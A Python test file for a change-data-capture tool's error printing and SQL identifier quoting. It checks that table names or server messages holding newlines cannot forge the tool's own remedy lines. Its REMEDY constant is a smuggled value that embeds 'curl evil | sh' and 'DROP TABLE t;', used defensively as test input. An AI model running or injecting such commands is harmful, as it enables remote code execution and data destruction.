"""Errors with foreign text in them → no line of it looks like one of ours."""

import pytest

from cdc.errors import ConfigError, MillraceError
from cdc.lines import Lines, name_first, on_one_line
from cdc.postgres.checks.preflight import PreflightError, shared_topic
from cdc.postgres.failures import alter_identity, statement_error
from cdc.records.schema import TableName
from cdc.records.sql_names import quote
from deploy.commands.printing import print_line, printable_message

REMEDY = "x\n  → run: curl evil | sh\n      DROP TABLE t;"
"""A name, or a server's message, that goes on as a remedy of ours would."""


def lines_of(error: MillraceError) -> list[str]:
    return printable_message(str(error)).splitlines()


def test_a_name_or_a_message_begins_no_line() -> None:
    error = ConfigError(f"table {REMEDY}: no", where=REMEDY, remedy=f"millrace snapshot {REMEDY}")
    first, second = lines_of(error)
    assert first.startswith("table x\\u000a  → run: curl evil")
    assert second.startswith("  → millrace snapshot x\\u000a")
    assert "\n" not in error.what


def test_a_servers_message_begins_none_either() -> None:
    what, *remedy = lines_of(statement_error("P0001", REMEDY, "db"))
    assert "x → run: curl evil" in what
    assert len(remedy) <= 1


def test_lines_of_ours_stay_with_foreign_names_on_them() -> None:
    error = shared_topic("t", [TableName("public", "x"), TableName("public", REMEDY)])
    lines = lines_of(error)
    assert [line[:8] for line in lines[1:]] == ["  → rena", "    or a", "    (a t"]
    assert not any(line.lstrip().startswith(("→ run:", "DROP")) for line in lines)


def test_all_requirements_that_arent_met_are_on_lines_of_their_own() -> None:
    problems = [ConfigError("a", remedy="x"), ConfigError(f"b {REMEDY}")]
    assert lines_of(PreflightError(problems)) == [
        "2 requirements aren't met:",
        "  1. a",
        "  → x",
        "  2. b x\\u000a  → run: curl evil | sh\\u000a      DROP TABLE t;",
    ]


@pytest.mark.parametrize(
    ("name", "quoted"),
    [
        ("plain", "plain"),
        ("order", '"order"'),
        ('With "quotes"', '"With ""quotes"""'),
        ("a\nb", r'U&"a\+00000Ab"'),
        ('\\"\x1b', r'U&"\+00005C""\+00001B"'),
    ],
)
def test_a_name_is_quoted_on_one_line_that_can_be_pasted(name: str, quoted: str) -> None:
    assert quote(name) == quoted


def test_sql_to_paste_has_a_line_for_each_table_whatever_it_is_called() -> None:
    lines = alter_identity([TableName("public", REMEDY), TableName("a", "b")], "FULL")
    assert isinstance(lines, Lines)
    assert [line[:18] for line in lines.splitlines()[1:]] == ["      ALTER TABLE "] * 2


def test_a_report_has_one_line_unless_it_is_ours(capsys: pytest.CaptureFixture[str]) -> None:
    print_line(f"{REMEDY}: 1 event")
    print_line(Lines(f"{on_one_line(REMEDY)}: not applied\n  → mend it"))
    assert [line[:12] for line in capsys.readouterr().out.splitlines()] == [
        "x\\u000a  → r",
        "x\\u000a  → r",
        "  → mend it",
    ]


def test_of_many_names_the_first_five_are_named_and_the_others_counted() -> None:
    names = [TableName("public", f"t{number}") for number in range(1_000)]
    assert name_first(names[:2]) == "public.t0, public.t1"
    assert name_first(names[:5]).endswith("public.t4")
    shown = "public.t0, public.t1, public.t2, public.t3, public.t4"
    assert name_first(iter(names[:6])) == f"{shown} … and 1 more"
    assert name_first(names) == f"{shown} … and 995 more"
    assert name_first(["a (why)", "b (why)"], "; ") == "a (why); b (why)"
    assert name_first(()) == ""
